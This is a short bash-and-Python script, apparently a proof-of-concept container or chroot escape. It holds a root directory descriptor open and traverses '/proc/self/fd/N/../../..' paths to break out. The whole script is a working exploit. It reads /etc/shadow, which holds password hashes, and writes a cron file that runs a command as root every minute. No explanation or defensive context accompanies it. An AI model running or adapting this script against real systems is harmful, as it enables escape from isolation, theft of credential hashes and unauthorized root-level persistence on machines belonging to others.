#!/bin/bash
exec 9< /
python3 <<< 'import os

for fd in range(3, 20):
    try:
        where = os.readlink("/proc/self/fd/%d" % fd)
    except OSError:
        continue
    up = "/proc/self/fd/%d/../../../../../../" % fd
    try:
        with open(up + "etc/shadow") as f:
            print(where, f.read())
        with open(up + "etc/cron.d/a", "w") as f:
            f.write("* * * * * root /bin/sh -c '"'"'id > /tmp/id'"'"'\n")
        break
    except OSError as e:
        print(where, e)
'
